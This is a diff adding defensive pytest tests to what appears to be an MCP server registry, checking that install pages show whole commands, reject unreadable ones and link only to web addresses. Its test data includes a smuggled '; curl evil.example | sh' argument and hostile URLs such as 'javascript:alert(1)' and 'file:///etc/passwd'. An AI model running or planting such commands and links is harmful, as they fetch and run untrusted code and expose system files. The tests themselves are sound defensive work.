@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import base64
+import html
+import json
 import re
+import shlex
 from typing import Any
-from urllib.parse import quote
+from urllib.parse import quote, unquote
 from xml.etree import ElementTree
 
 import pytest
@@ -163,6 +167,45 @@ def test_install_shows_the_whole_command_before_any_link(client: Client) -> None
     warning = text.index("this runs code on your machine")
     link = text.index('href="vscode:mcp/install?')
     assert command < warning < link < text.index('href="cursor://')
+
+
+def test_install_hides_nothing_of_a_long_command(client: Client) -> None:
+    """Threat 37: 5 KB of arguments are shown to their end, and one click runs those and no others."""
+    words = [f"--option-{number}={'x' * 30}" for number in range(100)] + ["y" * 2500, "; curl evil.example | sh"]
+    values = [{"type": "positional", "value": word} for word in words]
+    publish("io.github.acme/slack", packages=[npm("slack-mcp", "1.2.3", packageArguments=values)])
+    text = html.unescape(get(client, page("io.github.acme/slack", "install")))
+    assert f"<code data-copy-source>npx -y slack-mcp@1.2.3 {shlex.join(words)}</code>" in text
+    vscode = json.loads(unquote(re.findall(r'href="vscode:mcp/install\?([^"]+)"', text)[0]))
+    cursor = json.loads(base64.b64decode(unquote(re.findall(r'href="cursor://[^"]+&config=([^"]+)"', text)[0])))
+    for runs in (vscode, cursor):
+        assert [runs["command"], *runs["args"]] == ["npx", "-y", "slack-mcp@1.2.3", *words]
+    assert "http-equiv" not in text.lower() and "<iframe" not in text  # nothing opens by itself
+
+
+@pytest.mark.parametrize("values", [["--last"] * 201, ["y" * 20_001]])
+def test_install_gives_no_command_that_nobody_would_read(client: Client, values: list[str]) -> None:
+    """Threat 37: nor one with its end cut off."""
+    listed = [{"type": "positional", "value": value} for value in values]
+    publish("io.github.acme/slack", packages=[npm("slack-mcp", packageArguments=listed)])
+    text = get(client, page("io.github.acme/slack", "install"))
+    assert "too long for anybody to read" in text and "npx" not in text and 'href="vscode:' not in text
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "vscode:mcp/install?x", "ssh://example.com/x",
+     "https://user:word@example.com/mcp", "//example.com/mcp"],
+)  # fmt: skip
+def test_install_links_to_web_addresses_only(client: Client, url: str) -> None:
+    """Threat 37: neither a client nor a browser is sent to anything else, as a server or as a bundle."""
+    bundle = {"registryType": "mcpb", "identifier": url, "fileSha256": "0" * 64, "transport": {"type": "stdio"}}
+    publish("io.github.acme/bad", packages=[bundle], remotes=[remote(url)], websiteUrl=url, repository={"url": url})
+    for tab in ("", "install"):
+        text = html.unescape(get(client, page("io.github.acme/bad", tab)))
+        links = re.findall(r'(?:href|src|action)="([^"]*)"', text)
+        assert links and not [link for link in links if url in unquote(link) or link.startswith(("vscode:", "cursor:"))]
+    assert "none that a client could connect to" in text and "none that could be fetched" in text
 
 
 def test_secret_is_never_in_a_link(client: Client) -> None:
